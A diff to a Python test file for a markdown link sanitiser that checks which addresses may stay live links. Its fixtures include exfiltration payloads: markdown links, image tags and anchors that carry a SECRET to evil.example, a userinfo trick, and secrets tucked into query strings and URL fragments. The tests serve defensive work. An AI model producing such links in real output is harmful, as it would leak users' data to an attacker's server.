@@ -58,6 +58,7 @@ def _in_link(children: Sequence[Token], wanted: Token) -> bool:
         f"- > [x](https://evil.example/{SECRET})",
         f"https://good.example@evil.example/{SECRET}",
         f"{GOOD}&d={SECRET}",
+        f"[the report]({GOOD}#{SECRET})",
         f'<img src="https://evil.example/{SECRET}">',
         f'<a href="https://evil.example/{SECRET}">x</a>',
         f"[{GOOD}](https://evil.example/{SECRET})",
@@ -86,6 +87,13 @@ def test_an_address_that_nobody_brought_in_is_never_a_link(text):
 def test_an_address_of_a_source_stays_a_link(text):
     links = links_in(safe_markdown(text, GATE))
     assert {link.partition("#")[0].lower() for link in links} == {GOOD}
+
+
+def test_a_page_of_a_source_stays_in_its_link():
+    """Other places in it do not, unless somebody named them: scripts there could read them."""
+    gate = LinkGate(frozenset({GOOD, f"{GOOD}#named"}))
+    for place in ("#page=12", "#named"):
+        assert links_in(safe_markdown(f"[here]({GOOD}{place})", gate)) == {GOOD + place}
 
 
 def test_a_refused_link_keeps_its_words_and_shows_where_it_led():
